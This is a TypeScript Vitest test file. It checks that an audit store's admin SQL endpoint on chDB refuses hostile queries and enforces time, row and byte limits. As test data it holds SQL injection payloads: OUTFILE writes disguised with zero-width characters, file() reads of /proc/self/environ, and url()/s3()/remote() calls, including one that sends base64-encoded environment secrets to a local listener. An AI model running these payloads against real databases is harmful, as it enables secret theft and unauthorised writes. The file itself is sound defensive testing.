import { existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditStore, QueryOptions } from '../../src/store/audit-store.js';
import { openAuditStore } from '../../src/store/open-audit-store.js';
import { chdbAudit, silent, tempDir, type TempDir } from '../support.js';

const refusal = async (work: Promise<unknown>): Promise<{ code: string; message: string } | null> =>
  work.then(
    () => null,
    (err: unknown) => err as { code: string; message: string },
  );

/** The SQL of every `curl … /admin/sql -d "…"` example in the README. */
function readmeExamples(): string[] {
  const readme = readFileSync(join(import.meta.dirname, '../../../README.md'), 'utf8');
  return [...readme.matchAll(/\/admin\/sql -d "([^"]+)"/g)].map((m) => m[1]!);
}

describe.each<[string, QueryOptions]>([
  ['an admin', {}],
  ['an auditor of one tenant', { tenant: 'acme' }],
])('POST /admin/sql statements on chDB from %s: attacks fail safely', (_who, scope) => {
  let dir: TempDir;
  let store: AuditStore;
  let listener: Server;
  let port: number;
  let connections = 0;

  beforeAll(async () => {
    dir = await tempDir();
    store = await openAuditStore(chdbAudit(dir.path, {}, '{ maxExecutionMs: 300, maxResultRows: 1000 }'), silent);
    listener = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as { port: number }).port;
  });

  afterAll(async () => {
    await store?.close();
    await new Promise<void>((resolve) => listener?.close(() => resolve()));
    await dir?.remove();
  });

  it.each([
    ['$$ hiding --', (path: string) => `SELECT $$--$$ AS a INTO OUTFILE '${path}'`],
    ['$$ hiding -- before a new line', (path: string) => `SELECT $$--$$ AS a INTO OUTFILE '${path}' AND STDOUT --\n`],
    ['U+200B', (path: string) => `SELECT 1 INTO\u200bOUTFILE '${path}'`],
    ['U+200C', (path: string) => `SELECT 1 INTO\u200cOUTFILE '${path}'`],
    ['U+200D', (path: string) => `SELECT 1 INTO\u200dOUTFILE '${path}'`],
    ['U+2060', (path: string) => `SELECT 1 INTO\u2060OUTFILE '${path}'`],
    ['U+180E', (path: string) => `SELECT 1 INTO\u180eOUTFILE '${path}'`],
    ['U+0085', (path: string) => `SELECT 1 INTO\u0085OUTFILE '${path}'`],
  ])('writes no file through INTO OUTFILE (%s)', async (name, payload) => {
    const path = join(dir.path, `outfile-${name.replace(/\W+/g, '-')}.txt`);
    const refused = await refusal(store.query(payload(path), scope));
    expect(refused).toMatchObject({ code: 'SLUICE_AUDIT_SQL_NOT_READ_ONLY', message: expect.stringContaining('OUTFILE') });
    expect(existsSync(path)).toBe(false);
  });

  it('refuses file() and answers no secret', async () => {
    for (const sql of ["SELECT file('/proc/self/environ') AS e", "SELECT FILE('/etc/hostname')", "SELECT * FROM file('/etc/hostname', 'LineAsString')"]) {
      const refused = await refusal(store.query(sql, scope));
      expect(refused, sql).toMatchObject({ code: 'SLUICE_AUDIT_SQL_FUNCTION_NOT_ALLOWED', message: expect.stringContaining('file') });
    }
  });

  it('refuses table functions that open connections, and none reaches a local listener', async () => {
    const at = `127.0.0.1:${port}`;
    const attacks: [string, string][] = [
      ['url', `SELECT * FROM url('http://${at}/x', 'CSV', 'a String')`],
      ['url', `DESCRIBE url(concat('http://${at}/', base64URLEncode(file('/proc/self/environ'))), 'CSV')`],
      ['s3', `SELECT * FROM s3('http://${at}/bucket/x.csv', 'CSV', 'a String')`],
      ['remote', `SELECT * FROM remote('${at}', system.one)`],
      ['mysql', `SELECT * FROM mysql('${at}', 'db', 't', 'u', 'p')`],
      ['postgresql', `SELECT * FROM postgresql('${at}', 'db', 't', 'u', 'p')`],
      ['url', `SELECT 1 FROM sluice.calls WHERE 1 IN (SELECT 1 FROM url('http://${at}/y', 'CSV', 'a UInt8'))`],
    ];
    for (const [fn, sql] of attacks) {
      const refused = await refusal(store.query(sql, scope));
      expect(refused, sql).toMatchObject({ code: 'SLUICE_AUDIT_SQL_FUNCTION_NOT_ALLOWED', message: expect.stringContaining(fn) });
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(connections).toBe(0);
  });

  it('refuses tables outside sluice, however they are named', async () => {
    for (const sql of ['SELECT * FROM system.users', 'SELECT 1 IN system.one', 'SELECT * FROM `default`.x', 'EXISTS TABLE system.one', 'SHOW TABLES FROM system']) {
      expect((await refusal(store.query(sql, scope)))?.code, sql).toBe('SLUICE_AUDIT_SQL_TABLE_NOT_ALLOWED');
    }
  });

  it('answers no forged row left by an earlier statement', async () => {
    const forged = "SELECT $$--$$ AS a; SELECT 'forged' AS one FORMAT JSONEachRow; SELECT throwIf(1), $$\n$$ AS b";
    expect((await refusal(store.query(forged, scope)))?.code).toBe('SLUICE_AUDIT_SQL_NOT_READ_ONLY');
    const leftover = "SELECT 'forged' AS one UNION ALL SELECT toString(throwIf(number = 70000)) FROM numbers(100000)";
    expect((await refusal(store.query(leftover, scope)))?.code).toBeDefined();
    expect(await store.query('SELECT 1 AS one', scope)).toBe('{"one":1}\n');
  });

  it('cuts a 60M-row aggregate at the time limit, and answers SELECT 1 at once after and meanwhile', async () => {
    const slow = 'SELECT sum(sipHash64(toString(number))) FROM numbers(60000000)';
    const started = Date.now();
    const running = refusal(store.query(slow, scope));
    await new Promise((resolve) => setTimeout(resolve, 50));
    let t = Date.now();
    expect(await store.query('SELECT 1 AS one', scope)).toBe('{"one":1}\n');
    // Meanwhile the aggregate holds both of the machine's cores: the bound only proves it does not queue behind it
    // (a queued read waited the aggregate's whole run, seconds).
    expect(Date.now() - t).toBeLessThan(1000);
    expect(await running).toMatchObject({ code: 'SLUICE_AUDIT_SQL_LIMIT_EXCEEDED', message: expect.stringContaining('Timeout') });
    expect(Date.now() - started).toBeLessThan(2000);
    t = Date.now();
    expect(await store.query('SELECT 1 AS one', scope)).toBe('{"one":1}\n');
    expect(Date.now() - t).toBeLessThan(200);
  });

  it('stops a statement whose caller went away', async () => {
    const gone = new AbortController();
    const started = Date.now();
    const running = refusal(store.query('SELECT sum(sipHash64(toString(number))) FROM numbers(60000000)', { ...scope, signal: gone.signal }));
    setTimeout(() => gone.abort(), 50);
    expect((await running)?.code).toBe('SLUICE_AUDIT_SQL_CANCELLED');
    expect(Date.now() - started).toBeLessThan(2000);
    expect(await store.query('SELECT 1 AS one', scope)).toBe('{"one":1}\n');
  });

  it('refuses answers past the row and byte limits', async () => {
    expect(await refusal(store.query('SELECT number FROM numbers(100000)', scope))).toMatchObject({ code: 'SLUICE_AUDIT_SQL_LIMIT_EXCEEDED' });
    expect(await refusal(store.query("SELECT repeat('x', 1000000) AS x FROM numbers(20)", scope))).toMatchObject({
      code: 'SLUICE_AUDIT_SQL_LIMIT_EXCEEDED',
      message: expect.stringContaining('maxResultBytes'),
    });
  });

  it('runs every SQL example of the README', async () => {
    const examples = readmeExamples();
    expect(examples.length).toBeGreaterThanOrEqual(4);
    for (const sql of examples) await expect(store.query(sql, scope), sql).resolves.toEqual(expect.any(String));
  });

  it('runs the reads analysts write: CTEs, joins, unions, subqueries, windows, generated rows', async () => {
    for (const sql of [
      'WITH t AS (SELECT 1 AS n) SELECT n FROM t',
      'SELECT count() FROM calls',
      '(SELECT 1) UNION ALL (SELECT 2)',
      'SELECT c.tool, count() FROM sluice.calls AS c LEFT JOIN sluice.events AS e ON c.request_id = e.request_id GROUP BY c.tool',
      'SELECT number, sum(number) OVER (ORDER BY number) FROM numbers(5)',
      "SELECT * FROM values('a UInt8', 1, 2)",
      "SELECT 'it''s; not a second statement' AS t, $$a--b$$ AS u -- comment",
      'DESC sluice.calls',
      'EXISTS sluice.events',
      'SHOW TABLES',
    ]) {
      await expect(store.query(sql, scope), sql).resolves.toEqual(expect.any(String));
    }
  });
});
